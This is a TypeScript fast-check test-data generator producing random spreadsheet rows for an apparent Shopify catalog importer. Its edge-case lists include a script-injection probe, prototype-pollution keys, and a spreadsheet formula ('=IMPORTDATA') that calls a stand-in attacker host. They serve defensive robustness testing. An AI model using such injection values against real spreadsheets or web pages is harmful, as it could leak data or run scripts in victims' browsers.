import fc from 'fast-check';
import type { RawCell } from '../../../src/catalog/values/cell';

/** Words that mean something somewhere, so that random rows meet in one product, and in one variant. */
const WORDS: readonly RawCell[] = [
  ...['[clear]', '[Clear]', 'hat', 'Hat', 'HAT', 'cap', 'S', 'M', 'Size', 'Colour', 'Title', 'Default Title'],
  ...['1', '0', '-3', '5.00', '5,00', '1.234', '1,234.50', '8E+12', '1e5', "'0085", '00085', '25/26', '½'],
  ...['TRUE', 'false', 'yes', 'active', 'Draft', 'DENY', 'continue', 'shopify', 'kg', 'lb', 'not stocked'],
  ...['NEW', 'MERGE', 'UPDATE', 'REPLACE', 'DELETE', 'IGNORE', 'Main', 'Cellar', 'Attic', 'DE', 'QC'],
  ...[
    'https://a.example/b.jpg',
    'https://a.example/c.jpg',
    'b.jpg',
    'gid://shopify/Product/7',
    '7',
    'A-1',
    'A-2',
  ],
  ...[
    'a, b',
    'b, A',
    '<p>Hello</p>',
    '<script>alert(1)</script>',
    '"quoted"',
    "'",
    "''",
    '__proto__',
    'constructor',
  ],
];

/** What a formula shows that failed, and what would be one. */
const FORMULAS: readonly RawCell[] = [
  ...['#N/A', '#REF!', '#VALUE!', '#NAME?', '#DIV/0!', '#NUM!', '#NULL!', '#ERROR!', 'Loading...'],
  ...['=1+1', '=IMPORTDATA("https://evil.example")', '+1', '-1', '@SUM(A1)'],
];

/** Whatever may stand in a cell. */
const anyCell: fc.Arbitrary<RawCell> = fc.oneof(
  { weight: 5, arbitrary: fc.constant('') },
  { weight: 6, arbitrary: fc.constantFrom(...WORDS) },
  fc.constantFrom(...FORMULAS),
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.constantFrom('x'.repeat(256), 'é'.repeat(50_001), ' \u00a0\t', '帽子', 'قبعة', '👒🏽', 'e\u0301'),
  fc.double(),
  fc.integer(),
  fc.boolean(),
  fc.record({ date: fc.string() }),
);

/** Random rows of a width. */
export const anyRows = (width: number, maxLength = 12) =>
  fc.array(fc.array(anyCell, { minLength: width, maxLength: width }), { maxLength });

/** What people type under a header, by what it is called. */
const USUAL: readonly (readonly [header: RegExp, cells: readonly RawCell[]])[] = [
  [/handle/i, ['hat', 'cap', 'mug', 'tee', 'Tee', 'lamp', 'bag', 'pin']],
  [/^title$/i, ['Hat', 'Cap', '帽子']],
  [/option1 name/i, ['Size']],
  [/option1 value/i, ['S', 'M', 'L', '25/26']],
  [/option\d (name|value)/i, ['']],
  [/sku/i, ['A-1', 'A-2', '00123']],
  [/adjust/i, ['0', 3, '-2']],
  [/qty|inventory(:| available| on hand)|^on hand|^available/i, [4, '0', 'not stocked', 7]],
  [/location/i, ['Main', 'Cellar']],
  [/price|cost/i, ['5.00', 9.5, '12', 0]],
  [/weight unit/i, ['kg', 'g']],
  [/weight|grams/i, [350, '1.5']],
  [/taxable|published|requires|top row/i, [true, 'FALSE', 'true']],
  [/gift/i, ['FALSE']],
  [/tracker/i, ['shopify']],
  [/policy/i, ['deny', 'CONTINUE']],
  [/status/i, ['active', 'Draft', 'archived']],
  [/^command$/i, ['MERGE', '', 'IGNORE']],
  [/command/i, ['MERGE', '']],
  [/tags/i, ['a, b', 'b, A']],
  [/image src|variant image/i, ['https://a.example/b.jpg', 'https://a.example/c.jpg']],
  [/position/i, [1, '2']],
  [/^(variant )?(inventory item )?id$/i, ['']],
  [/coo|country/i, ['DE']],
  [/province/i, ['QC']],
  [/published at|created at|updated at|category/i, ['']],
];

function usualCell(header: string): fc.Arbitrary<RawCell> {
  const cells = USUAL.find(([pattern]) => pattern.test(header))?.[1] ?? ['text', 'other', '[clear]'];
  return fc.constantFrom(...cells);
}

/** Without these a row of most tabs is an error, whatever else stands there. */
const NEEDED = /handle|^title$|option1|^sku$|location|weight unit/i;

/** Rows as people fill them in, most of them sound, with anything at all in a cell here and there. */
export const someRows = (header: readonly string[], maxLength = 8) =>
  fc.array(
    fc.tuple(
      ...header.map((name) =>
        fc.oneof(
          { weight: 200, arbitrary: usualCell(name) },
          { weight: NEEDED.test(name) ? 2 : 120, arbitrary: fc.constant('') },
          { weight: 1, arbitrary: anyCell },
        ),
      ),
    ),
    { maxLength },
  );
